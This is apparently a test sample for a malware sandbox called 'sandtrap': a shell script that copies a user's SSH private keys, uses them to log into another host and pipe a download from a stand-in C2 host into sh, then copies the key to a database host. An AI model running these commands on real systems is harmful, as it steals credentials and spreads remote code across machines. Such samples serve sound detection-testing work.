#!/bin/sh
# Lateral movement with harvested keys: uses the user's private keys to ssh and scp to other hosts (the simulated internet accepts the TCP connection).
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
for k in /home/dmitchell/.ssh/id_rsa /home/dmitchell/.ssh/id_ed25519; do
  cp "$k" /tmp/.key && chmod 600 /tmp/.key
  timeout 3 ssh -i /tmp/.key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=2 admin@198.51.100.20 'curl -s http://c2.example/i | sh' 2>&1 | head -n 2
done
timeout 3 scp -i /tmp/.key -o StrictHostKeyChecking=no -o BatchMode=yes -o ConnectTimeout=2 /tmp/.key deploy@db01.corp.example:/tmp/ 2>&1 | head -n 2
echo done
